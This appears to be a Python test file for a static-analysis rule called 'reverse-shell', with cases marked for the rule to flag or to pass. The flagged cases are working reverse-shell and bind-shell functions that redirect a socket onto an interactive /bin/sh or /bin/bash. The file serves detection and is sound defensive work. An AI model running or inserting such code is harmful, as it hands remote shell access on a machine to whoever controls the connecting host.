import os
import pty
import socket
import subprocess
import subprocess as sp


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    # ruleid: reverse-shell
    pty.spawn("/bin/bash")


def connect_back_popen(host, port):
    conn = socket.create_connection((host, port))
    # ruleid: reverse-shell
    sp.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())


def bind_shell(port):
    from os import dup2

    server = socket.socket()
    server.bind(("127.0.0.1", port))
    dup2(server.fileno(), 0)
    # ruleid: reverse-shell
    subprocess.call(["/bin/sh", "-i"])


def terminal():
    # ok: reverse-shell
    pty.spawn("/bin/bash")


def redirect_log(path):
    handle = open(path, "w")
    os.dup2(handle.fileno(), 2)
    # ok: reverse-shell
    subprocess.run(["make", "build"], check=True)


def send_output(host, port):
    conn = socket.create_connection((host, port))
    # ok: reverse-shell
    subprocess.run(["uptime"], stdout=conn.fileno(), check=True)
